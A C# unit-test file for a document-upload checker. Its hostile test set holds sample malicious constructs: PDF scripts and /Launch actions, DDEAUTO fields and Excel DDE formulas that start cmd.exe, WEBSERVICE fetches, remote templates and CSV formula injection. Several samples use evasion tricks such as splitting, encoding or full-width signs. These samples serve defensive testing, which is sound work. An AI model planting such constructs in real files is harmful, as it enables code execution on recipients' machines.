using System.Text;
using DpsPortal.Organisations.Documents;
using DpsPortal.Organisations.Documents.Checks;
using DpsPortal.Organisations.Documents.Cleaning;

namespace DpsPortal.Organisations.Tests.Documents;

/// <summary>Threat T19: files that do something, or carry something that does.</summary>
public sealed class ActiveContentTests
{
    private const string Text = "<w:p><w:r><w:t>Text</w:t></w:r></w:p>";
    private const string Sheet = "<sheets><sheet name=\"Rates\" sheetId=\"1\" r:id=\"rId1\"/></sheets>";

    public static TheoryData<string, DocumentKind, byte[]> Hostile => new()
    {
        { "script on opening", DocumentKind.Pdf, Pdf("/OpenAction<</S/JavaScript/JS(app.alert(1))>>") },
        { "script, its name in codes", DocumentKind.Pdf, Pdf("/S /J#61v#61Script") },
        { "script without a type", DocumentKind.Pdf, Pdf("/JS 7 0 R") },
        { "program", DocumentKind.Pdf, Pdf("/A<</S/Launch/F(cmd.exe)>>") },
        { "file", DocumentKind.Pdf, Pdf("/Type/EmbeddedFile") },
        { "files by name", DocumentKind.Pdf, Pdf("/Names<</EmbeddedFiles 6 0 R>>") },
        { "film", DocumentKind.Pdf, Pdf("/Subtype/RichMedia") },
        { "form of XFA", DocumentKind.Pdf, Pdf("/AcroForm<</XFA 8 0 R>>") },
        { "form that sends", DocumentKind.Pdf, Pdf("/A<</S/SubmitForm/F(http://x.example)>>") },
        { "address on opening", DocumentKind.Pdf, Pdf("/OpenAction<</S/URI/URI(http://x.example)>>") },
        { "other PDF", DocumentKind.Pdf, Pdf("/A<</S/GoToR/F(\\\\\\\\host\\\\share)>>") },
        { "moves of its own", DocumentKind.Pdf, Pdf("/AA<</O 7 0 R>>") },
        { "password", DocumentKind.Pdf, Pdf("/Encrypt 8 0 R") },
        { "script in packed objects", DocumentKind.Pdf, Files.PackedPdf("<</S/JavaScript/JS(1)>>") },
        { "file in packed objects", DocumentKind.Pdf, Files.PackedPdf("<</Type/EmbeddedFile>>") },
        { "packed twice", DocumentKind.Pdf, Files.PackedPdf("<<>>", "[/ASCIIHexDecode/FlateDecode]") },
        { "packed, its kind in codes", DocumentKind.Pdf, Files.PackedPdf("<</S/Launch>>", type: "/Obj#53tm") },
        { "macro", DocumentKind.Docx, Docx("word/vbaProject.bin", "x") },
        { "macro sheet", DocumentKind.Xlsx, Files.Xlsx(Sheet, "", ("xl/macrosheets/sheet1.xml", "<a/>")) },
        { "ActiveX", DocumentKind.Docx, Docx("word/activeX/activeX1.xml", "<a/>") },
        { "embedded object", DocumentKind.Docx, Docx("word/embeddings/oleObject1.bin", "x") },
        { "embedded workbook", DocumentKind.Docx, Docx("word/embeddings/book.bin", "x") },
        { "OLE under a picture's name", DocumentKind.Docx, Docx("word/media/a.png", "\u00D0\u00CF\u0011\u00E0\u00A1\u00B1\u001A\u00E1..") },
        { "program under a picture's name", DocumentKind.Docx, Docx("word/media/a.png", "MZ\u0090.........") },
        { "remote template", DocumentKind.Docx, Linked("attachedTemplate|!http://x.example/t.dotm") },
        { "template on a share", DocumentKind.Docx, Linked("attachedTemplate|!file://host/t.dotm") },
        { "remote picture", DocumentKind.Docx, Linked("image|!https://x.example/p.png") },
        { "remote object", DocumentKind.Docx, Linked("oleObject|!https://x.example/o") },
        { "remote frame", DocumentKind.Docx, Linked("frame|!https://x.example/f") },
        { "link to a program", DocumentKind.Docx, Linked("hyperlink|!file:///c:/windows/cmd.exe") },
        { "imported page", DocumentKind.Docx, Linked("aFChunk|chunk.htm") },
        { "field that starts a program", DocumentKind.Docx, Files.Docx(Field("DDEAUTO c:\\cmd.exe")) },
        { "field in pieces", DocumentKind.Docx, Files.Docx(Field("DD") + Field("E cmd")) },
        { "field that fetches", DocumentKind.Docx, Files.Docx("<w:p><w:fldSimple w:instr=\"INCLUDEPICTURE http://x\"/></w:p>") },
        { "field in a part of another ending", DocumentKind.Docx, Docx("word/document.dat", Part(Field("DDEAUTO c:\\cmd.exe"))) },
        { "field in another folder", DocumentKind.Docx, Docx("evil/document.xml", Part(Field("DDEAUTO c:\\cmd.exe"))) },
        { "field behind white space", DocumentKind.Docx, Docx("word/a.bin", new string(' ', 99) + Part(Field("DDEAUTO c:\\cmd.exe"))) },
        { "field split by an element", DocumentKind.Docx, Files.Docx("<w:r><w:instrText>DDE<w:x/>AUTO c:\\cmd.exe</w:instrText></w:r>") },
        { "entities", DocumentKind.Docx, Files.Docx(parts: ("word/x.xml", "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>")) },
        { "linked workbook", DocumentKind.Xlsx, Files.Xlsx(Sheet, "", ("xl/externalLinks/externalLink1.xml", "<a/>")) },
        { "formula that starts a program", DocumentKind.Xlsx, Files.Xlsx(Sheet, "<f>cmd|'/c calc'!A0</f>") },
        { "formula that fetches", DocumentKind.Xlsx, Files.Xlsx(Sheet, "<f>WEBSERVICE(\"http://x\")</f>") },
        { "formula split by a remark", DocumentKind.Xlsx, Files.Xlsx(Sheet, "<f>A1&amp;\"<!-- -->\"&amp;cmd|'/c calc'!A0</f>") },
        { "formula split by CDATA", DocumentKind.Xlsx, Files.Xlsx(Sheet, "<f>WEBSER<![CDATA[VICE]]>(\"http://x\")</f>") },
        { "formula that fetches a picture", DocumentKind.Xlsx, Files.Xlsx(Sheet, "<f>_xlfn.IMAGE(\"https://x\")</f>") },
        { "formula that asks a program", DocumentKind.Xlsx, Files.Xlsx(Sheet, "<f>RTD(\"prog\",,\"x\")</f>") },
        { "rule that fetches", DocumentKind.Xlsx, Files.Xlsx(Sheet, "<dataValidation><formula1>WEBSERVICE(\"http://x\")</formula1></dataValidation>") },
        { "formula in another folder", DocumentKind.Xlsx, Files.Xlsx(Sheet, "", ("evil/sheet1.dat", "<worksheet><f>cmd|'/c calc'!A0</f></worksheet>")) },
        { "formula in a CSV", DocumentKind.Csv, "a,b\n1,=cmd|'/c calc'!A0"u8.ToArray() },
        { "formula with a sign in a CSV", DocumentKind.Csv, "a;b\n1;-2+3+cmd|' /C calc'!D2"u8.ToArray() },
        { "full-width equals sign in a CSV", DocumentKind.Csv, "a,b\n1,＝HYPERLINK(A1)"u8.ToArray() },
        { "full-width at sign in a CSV", DocumentKind.Csv, "＠SUM(A1)"u8.ToArray() },
        { "full-width plus in a CSV", DocumentKind.Csv, "a;b\n1; \"＋2+cmd|' /C calc'!D2\""u8.ToArray() },
        { "full-width minus in a CSV", DocumentKind.Csv, "a\tb\n1\t－SUM(A1)"u8.ToArray() },
        { "full-width equals sign after a mark", DocumentKind.Csv, [0xEF, 0xBB, 0xBF, .. "＝HYPERLINK(A1)"u8] },
    };

    public static TheoryData<string, DocumentKind, byte[]> Clean => new()
    {
        { "plain", DocumentKind.Pdf, Files.Pdf() },
        { "opens at a page", DocumentKind.Pdf, Pdf("/OpenAction[3 0 R/Fit]") },
        { "goes to a page", DocumentKind.Pdf, Pdf("/OpenAction<</S/GoTo/D[3 0 R/Fit]>>") },
        { "a link", DocumentKind.Pdf, Pdf("/A<</S/URI/URI(https://www.gov.uk)>>") },
        { "bookmarks", DocumentKind.Pdf, Pdf("/Outlines 4 0 R") },
        { "a form", DocumentKind.Pdf, Pdf("/AcroForm<</Fields[]>>") },
        { "names alike", DocumentKind.Pdf, Pdf("/JSX/AAB/Launcher/JavaScripts") },
        { "packed objects", DocumentKind.Pdf, Files.PackedPdf("<</Type/Page>>") },
        { "line end behind", DocumentKind.Pdf, Files.Pdf(after: "\r\n") },
        { "two ends", DocumentKind.Pdf, Files.Pdf("startxref\n0\n%%EOF") },
        { "text", DocumentKind.Docx, Files.Docx(Text) },
        { "empty", DocumentKind.Docx, Files.Docx("") },
        { "link", DocumentKind.Docx, Linked("hyperlink|!https://www.gov.uk") },
        { "mail link", DocumentKind.Docx, Linked("hyperlink|!mailto:a@example.org") },
        { "contents", DocumentKind.Docx, Files.Docx(Field("TOC \\o 1-3") + Field("PAGEREF _Toc1 \\h")) },
        { "mail merge words in the text", DocumentKind.Docx, Files.Docx("<w:p><w:r><w:t>DDE and LINK</w:t></w:r></w:p>") },
        { "picture", DocumentKind.Docx, Files.Docx(parts: ("word/media/a.png", Encoding.Latin1.GetString(Files.Png()))) },
        { "styles", DocumentKind.Docx, Files.Docx(Text, ("word/styles.xml", $"<w:styles {Files.W}/>")) },
        { "workbook", DocumentKind.Xlsx, Files.Xlsx(Sheet) },
        { "sum", DocumentKind.Xlsx, Files.Xlsx(Sheet, "<f>SUM(A1:A3)</f>") },
        { "text with a bar", DocumentKind.Xlsx, Files.Xlsx(Sheet, "<f>A1&amp;\"|\"&amp;B1</f>") },
        { "properties", DocumentKind.Xlsx, Files.Xlsx(Sheet, "", ("docProps/app.xml", "<a/>")) },
        { "table", DocumentKind.Csv, "name,weekly\nAlder House,420.00"u8.ToArray() },
        { "telephone", DocumentKind.Csv, "a,b\nx,+44 20 7946 0000"u8.ToArray() },
        { "minus", DocumentKind.Csv, "a,b\n-5,-3.20"u8.ToArray() },
        { "full-width minus before a number", DocumentKind.Csv, "a,b\n－5,＋44 20 7946 0000"u8.ToArray() },
        { "full-width sign within", DocumentKind.Csv, "a,b\nx ＝ y,a＠b"u8.ToArray() },
        { "less than", DocumentKind.Csv, "age\n<18"u8.ToArray() },
        { "Latin letters", DocumentKind.Csv, Encoding.Latin1.GetBytes("Caf\u00E9;\u00A31") },
        { "photograph", DocumentKind.Jpg, Files.Jpg() },
        { "photograph of a camera", DocumentKind.Jpg, Files.Jpg(Files.Exif(6, "")) },
        { "plan", DocumentKind.Png, Files.Png() },
    };

    [Theory, MemberData(nameof(Hostile))]
    public void T19_A_file_that_does_something_is_refused(string what, DocumentKind kind, byte[] file) =>
        DocumentChecks.FirstRefusal(kind, new MemoryStream(file)).ShouldNotBeNull(what);

    [Theory, MemberData(nameof(Clean))]
    public void T19_An_honest_file_is_taken(string what, DocumentKind kind, byte[] file)
    {
        DocumentChecks.FirstRefusal(kind, new MemoryStream(file)).ShouldBeNull(what);
        var served = MetadataRemoval.Clean(kind, file) ?? file;

        DocumentChecks.FirstRefusal(kind, new MemoryStream(served)).ShouldBeNull(what);
        MetadataRemoval.Clean(kind, served).ShouldBeNull("What is clean stays as it is.");
    }

    [Fact]
    public void T19_Each_side_has_at_least_thirty_files()
    {
        Hostile.Count.ShouldBeGreaterThanOrEqualTo(30);
        Clean.Count.ShouldBeGreaterThanOrEqualTo(30);
    }

    private static byte[] Pdf(string inObject) => Files.Pdf($"4 0 obj<<{inObject}>>endobj");

    private static byte[] Docx(string part, string content) => Files.Docx(Text, (part, content));

    private static byte[] Linked(string relation) =>
        Files.Docx(Text, ("word/_rels/document.xml.rels", Files.Relations(relation)));

    private static string Part(string body) => $"<w:document {Files.W}><w:body>{body}</w:body></w:document>";

    private static string Field(string text) => $"<w:r><w:instrText>{text}</w:instrText></w:r>";
}
